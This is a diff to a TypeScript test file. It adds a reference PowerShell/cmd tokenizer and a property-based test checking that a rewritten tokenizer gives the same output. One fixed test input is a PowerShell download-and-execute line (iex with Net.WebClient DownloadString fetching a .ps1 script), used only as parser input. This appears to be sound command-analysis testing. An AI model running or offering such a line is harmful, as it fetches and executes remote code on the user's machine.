@@ -11,7 +11,8 @@ import { parseImageRef } from '../../src/model/image-ref.js';
 import { parseUrl } from '../../src/shell/commands.js';
 import { SWITCH_TOOLS } from '../../src/shell/dataflow.js';
 import { toolKey } from '../../src/shell/options.js';
-import { mayHoldSubstitution } from '../../src/shell/parse.js';
+import { tokenize } from '../../src/shell/powershell.js';
+import type { Tok } from '../../src/shell/powershell.js';
 import type { Word } from '../../src/shell/types.js';
 import { repoRoot } from '../helpers/paths.js';
 
@@ -32,16 +33,80 @@ it('toolKey answers as its regular expressions do', () => {
   for (const n of ['python3.11', 'pip3', 'perl5.36', 'ruby', 'php8.2', 'nodejs', 'gpg2', 'curl', '', 'py', 'rpm']) assert.equal(toolKey(n), toolKeyReference(n));
 });
 
-it('mayHoldSubstitution = /\\$\\(|`|[<>]\\(/ on the slice', () => {
-  const text = pieces(['$', '(', '`', '<', '>', 'a', ' ', ')', '\\'], 12);
+/** The PowerShell/cmd tokenizer as it was (one string append per character). */
+function tokenizeReference(text: string, shell: 'powershell' | 'cmd'): Tok[] {
+  const toks: Tok[] = [];
+  const esc = shell === 'powershell' ? '`' : '^';
+  let i = 0;
+  while (i < text.length) {
+    const c = text[i]!;
+    if (c === ' ' || c === '\t' || c === '\r') {
+      i++;
+      continue;
+    }
+    if (c === esc && text[i + 1] === '\n') {
+      i += 2;
+      continue;
+    }
+    if (shell === 'powershell' && c === '#') {
+      while (i < text.length && text[i] !== '\n') i++;
+      continue;
+    }
+    const two = text.slice(i, i + 2);
+    if (two === '&&' || two === '||') {
+      toks.push({ kind: 'op', text: two, value: two, start: i, end: i + 2, quoted: false });
+      i += 2;
+      continue;
+    }
+    if (c === '\n' || c === ';' || c === '|' || c === '(' || c === ')' || c === '{' || c === '}' || c === ',' || (c === '&' && shell === 'cmd')) {
+      toks.push({ kind: 'op', text: c, value: c, start: i, end: i + 1, quoted: false });
+      i++;
+      continue;
+    }
+    const start = i;
+    let value = '';
+    let dynamic = false;
+    let quoted = false;
+    while (i < text.length) {
+      const d = text[i]!;
+      if (d === "'" || d === '"') {
+        quoted = true;
+        const q = d;
+        i++;
+        while (i < text.length && text[i] !== q) {
+          if (shell === 'powershell' && q === '"' && (text[i] === '$' || text[i] === '`')) dynamic = true;
+          if (shell === 'cmd' && text[i] === '%') dynamic = true;
+          value += text[i];
+          i++;
+        }
+        if (i < text.length) i++;
+        continue;
+      }
+      if (' \t\r\n;|(){},'.includes(d) || (shell === 'cmd' && d === '&') || (d === '&' && text[i + 1] === '&')) break;
+      if (d === esc && i + 1 < text.length) {
+        value += text[i + 1];
+        i += 2;
+        continue;
+      }
+      if (d === '$' || (shell === 'cmd' && d === '%')) dynamic = true;
+      value += d;
+      i++;
+    }
+    if (i === start) i++;
+    toks.push({ kind: 'word', text: text.slice(start, i), value: dynamic ? null : value, start, end: i, quoted });
+  }
+  return toks;
+}
+
+it('the PowerShell/cmd tokenizer answers as the per-character one did', () => {
+  const text = pieces(['a', 'Invoke', ' ', '\t', '\r', '\n', '"', "'", '`', '^', '$x', '%P%', '&', '&&', '|', '||', ';', '(', ')', '{', '}', ',', '#', '.DownloadString', 'é', '😀'], 14);
   fc.assert(
-    fc.property(text, fc.nat(), fc.nat(), (s, a, b) => {
-      const from = a % (s.length + 1);
-      const to = from + (b % (s.length - from + 1));
-      assert.equal(mayHoldSubstitution(s, from, to), /\$\(|`|[<>]\(/.test(s.slice(from, to)));
-    }),
-    { numRuns: 5000, seed: 4 },
+    fc.property(text, fc.constantFrom('powershell' as const, 'cmd' as const), (s, shell) => assert.deepEqual(tokenize(s, shell), tokenizeReference(s, shell))),
+    { numRuns: 20000, seed: 5 },
   );
+  for (const s of ['iex ((New-Object Net.WebClient).DownloadString("https://x/y.ps1"))', 'echo "a`"b" \'c\' d`\ne', 'set "X=%P%" && curl -o "a b" ^\n x']) {
+    for (const shell of ['powershell', 'cmd'] as const) assert.deepEqual(tokenize(s, shell), tokenizeReference(s, shell), s);
+  }
 });
 
 it('parseUrl finds URLs only where the scheme regex would', () => {
